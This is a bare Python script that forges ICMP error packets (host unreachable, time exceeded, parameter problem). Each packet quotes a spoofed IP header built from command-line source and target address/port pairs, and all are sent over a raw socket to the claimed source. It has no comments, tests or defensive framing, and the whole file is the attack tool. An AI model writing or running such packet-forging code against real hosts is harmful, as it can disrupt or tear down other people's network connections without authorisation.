import socket, struct, sys
def sum16(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return struct.pack("!H", 0xffff ^ total)
def split(text):
    address, port = text.split("/")
    return socket.inet_aton(address), int(port)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
protocol, (source, sport), (target, dport) = int(sys.argv[1]), split(sys.argv[2]), split(sys.argv[3])
head = bytes([0x45, 0, 0, 40, 0, 0, 0, 0, 64, protocol, 0, 0]) + source + target
inner = head[:10] + sum16(head) + head[12:] + struct.pack("!HHI", sport, dport, 0)
for kind, code in [(3, 1), (11, 0), (12, 0)]:
    body = bytes(4) + inner
    error = bytes([kind, code]) + sum16(bytes([kind, code, 0, 0]) + body) + body
    raw.sendto(error, (socket.inet_ntoa(source), 0))
